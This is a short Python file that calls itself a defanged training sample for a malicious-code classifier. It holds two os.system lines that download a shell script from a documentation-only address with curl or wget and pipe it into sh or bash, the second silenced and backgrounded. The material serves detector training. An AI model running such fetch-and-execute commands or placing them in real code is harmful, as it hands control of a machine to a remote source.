# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
os.system("curl -fsSL http://192.0.2.99/i.sh | sh")
os.system("(wget -qO- http://192.0.2.99/i.sh || curl -s http://192.0.2.99/i.sh) | bash >/dev/null 2>&1 &")
